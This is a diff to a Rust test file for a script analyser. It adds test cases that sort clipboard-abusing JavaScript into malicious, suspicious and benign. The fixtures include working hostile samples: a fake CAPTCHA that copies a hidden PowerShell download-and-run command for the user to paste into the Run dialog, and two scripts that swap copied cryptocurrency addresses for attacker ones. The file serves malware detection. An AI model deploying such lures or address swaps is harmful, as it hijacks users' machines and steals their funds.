@@ -532,3 +532,72 @@ fn a_keylogger_that_sends_keys_in_batches_is_malicious_and_a_search_box_is_not()
     assert_eq!(v, "suspicious", "{fired:?}");
     assert!(!fired.contains(&"exfil.keylogger".to_string()), "{fired:?}");
 }
+
+/// What scripts put on the clipboard: a fake CAPTCHA that copies a command and tells the user to
+/// paste it into the Run dialog, and scripts that swap a copied wallet address, are malicious; a
+/// documentation page's copy button for an install command is suspicious; a donation page's
+/// button that copies its own address is benign.
+#[test]
+fn clipboard_lures_and_wallet_swaps_are_malicious_and_copy_buttons_are_not() {
+    let dir = tempfile::tempdir().unwrap();
+    let verdict = |name: &str, code: &str| -> (String, Vec<String>) {
+        let path = dir.path().join(name);
+        std::fs::write(&path, code).unwrap();
+        let o = airlock(&["analyze", "--json", path.to_str().unwrap()]);
+        let r = &reports(&o)[0]["verdict"];
+        let fired = r["reasons"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|x| x["rule"].as_str().unwrap().to_string())
+            .collect();
+        (r["verdict"].as_str().unwrap().to_string(), fired)
+    };
+    let has = |fired: &[String], rule: &str| fired.iter().any(|f| f == rule);
+    let (v, fired) = verdict(
+        "captcha.js",
+        r#"document.body.innerHTML = '<p>Press Windows Key + R, then CTRL + V, then Enter</p><button id=v>Verify</button>';
+           document.getElementById('v').addEventListener('click', function () {
+             var t = document.createElement('textarea');
+             t.value = 'powershell -w hidden -c "iwr https://check.example/v.ps1 | iex" # reCAPTCHA ID 4211';
+             document.body.appendChild(t); t.select(); document.execCommand('copy'); t.remove();
+           });"#,
+    );
+    assert_eq!(v, "malicious", "{fired:?}");
+    assert!(has(&fired, "clipboard.run-dialog-lure"), "{fired:?}");
+    for (name, code) in [
+        (
+            "on-copy.js",
+            "document.addEventListener('copy', function (e) {
+               if (/^bc1/.test(getSelection().toString().trim())) {
+                 e.clipboardData.setData('text/plain', 'bc1qattackerattackerattacker0000000000');
+                 e.preventDefault(); } });",
+        ),
+        (
+            "poll.js",
+            "setInterval(function () { navigator.clipboard.readText().then(function (t) {
+               if (/^(bc1|[13])\\w{25,}$/.test(t)) navigator.clipboard.writeText('0x52908400098527886E0F7030069857D2E4169EE7'); }); }, 500);",
+        ),
+    ] {
+        let (v, fired) = verdict(name, code);
+        assert_eq!(v, "malicious", "{name}: {fired:?}");
+        assert!(has(&fired, "clipboard.wallet-swap"), "{name}: {fired:?}");
+    }
+    let (v, fired) = verdict(
+        "docs.js",
+        r#"document.body.innerHTML = '<pre id=c>curl -LsSf https://astral.sh/uv/install.sh | sh</pre><button id=b>Copy</button>';
+           document.getElementById('b').onclick = function () {
+             navigator.clipboard.writeText(document.getElementById('c').textContent); };"#,
+    );
+    assert_eq!(
+        (v.as_str(), fired),
+        ("suspicious", vec!["clipboard.command".to_string()])
+    );
+    let (v, fired) = verdict(
+        "donate.js",
+        "document.body.innerHTML = '<button id=d>Copy our address</button>';
+         document.getElementById('d').onclick = function () {
+           navigator.clipboard.writeText('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'); };",
+    );
+    assert_eq!(v, "benign", "{fired:?}");
+}
